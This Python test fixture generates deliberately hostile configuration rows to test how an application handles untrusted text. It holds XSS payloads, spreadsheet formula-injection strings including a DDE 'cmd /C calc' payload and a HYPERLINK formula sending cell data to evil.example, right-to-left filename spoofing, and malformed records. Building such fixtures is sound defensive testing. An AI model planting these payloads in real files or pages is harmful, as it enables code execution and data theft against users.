"""A project of somebody who wants to do harm with every field that a configuration has."""

from __future__ import annotations

from typing import Any

MARKDOWN = "**loud** _slanted_ ~~gone~~ [link](//evil.example/l) ![i](http://evil.example/i.png) :red[red]"
HTML = (
    '<b>loud</b><img src="http://evil.example/p.png" onerror="window.harmed=1"><script>window.harmed=2'
    '</script><a href="javascript:alert(1)">a</a><svg onload="alert(2)"></svg>'
)
LATEX = r"$x^2$ $$\int_0^1$$ \(a\) :material/delete: :smile: http://evil.example/auto"
RIGHT_TO_LEFT = "invoice\u202efdp.exe \u2066isolated \u05d0\u05d1\u05d2 \u200f"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEMPLATE = "%{x} %{fullData.name} {{x}} ${x} {0} %s <extra></extra><br>"
BACKTICKS = "`code` ``two`` ```fence``` ` ``"
EMOJI = "\U0001f469\u200d\U0001f467 \U0001f3f4\u200d\u2620\ufe0f \u0041\u0301"
LINES = "first\nsecond\r\nthird\tfourth"
LONG = "long-" + "x" * 9_990 + "-end"
TEXTS = {
    "markdown": MARKDOWN,
    "html": HTML,
    "latex": LATEX,
    "right-to-left": RIGHT_TO_LEFT,
    "formula": FORMULA,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tabbed": "\t=1+1",
    "template": TEMPLATE,
    "backticks": BACKTICKS,
    "emoji": EMOJI,
    "lines": LINES,
    "long": LONG,
}
TEXT_FIELDS = (
    "config_name",
    "config_desc",
    "engine_name",
    "engine_version",
    "user_image_url",
    "user_command",
)
CREATED = 1_700_000_000_000
EVERYTHING = "all: " + " ".join(text for name, text in TEXTS.items() if name != "long")
DETAILED = "everything-at-once"


def hostile_rows() -> list[dict[str, Any]]:
    """A row for each text, in all of its fields; rows with missing or wrong fields; one with everything."""
    days = iter(range(100))
    rows = [
        {**dict.fromkeys(TEXT_FIELDS, text), "create_time": CREATED + next(days) * 86_400_000}
        for text in TEXTS.values()
    ]
    return [*rows, *_broken_rows(), _detailed_row()]


def _broken_rows() -> list[dict[str, Any]]:
    return [
        {"config_name": "only-a-name"},
        {"config_desc": "no name at all"},
        {"config_name": None, "config_desc": None, "create_time": None, "engine_name": None},
        {"config_name": 12, "config_desc": ["a", "<b>"], "create_time": "yesterday", "engine_name": {"a": 1}},
        {
            "config_name": "absurd-times",
            "create_time": 32_503_680_000_000,
            "engine_id": "13",
            "engine_type": "x",
        },
        {"config_name": "extra-fields", "<script>": "<b>", "=1+1": "=1+1", "create_time": "1524189990635"},
    ]


def _detailed_row() -> dict[str, Any]:
    texts = dict.fromkeys(TEXT_FIELDS, EVERYTHING) | {"config_name": DETAILED}
    fields = (
        "app_url",
        "boot_file_url",
        "spec_code",
        "data_url",
        "dataset_name",
        "train_url",
        "log_url",
        "pool_name",
    )
    return {
        **texts,
        **dict.fromkeys(fields, EVERYTHING),
        "create_time": CREATED,
        "parameter": [
            {"label": EVERYTHING, "value": EVERYTHING},
            {"label": "lr", "value": 0.01},
            "no object",
        ],
        "data_source": [{"type": "obs", "data_url": EVERYTHING}],
        "volumes": [
            {"nfs": {"id": EVERYTHING, "src_path": EVERYTHING, "dest_path": "/d", "read_only": "maybe"}}
        ],
        "worker_server_num": "many",
    }
